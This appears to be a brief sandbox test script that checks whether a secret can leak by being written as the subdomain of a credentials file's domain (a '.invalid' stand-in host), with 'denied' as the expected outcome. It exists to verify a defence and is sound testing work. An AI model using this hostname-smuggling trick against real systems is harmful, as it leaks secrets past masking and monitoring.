-- idea: a credentials file whose domain is a value: hosts are written in small letters, which no masker knows
-- out: denied
spawn{ "sh", "-c", [[printf 'INFISICAL_TOKEN=abcdefgh12345678\nINFISICAL_DOMAIN=https://%s.invalid\n' "$T" > own.env; chmod 600 own.env]], env = { T = getSecret("TOKEN") } }
local ok, e = pcall(function() return login{ credentials = "own.env" }:getSecret("X") end)
print(ok or e.kind)
spawn{ "rm", "own.env" }
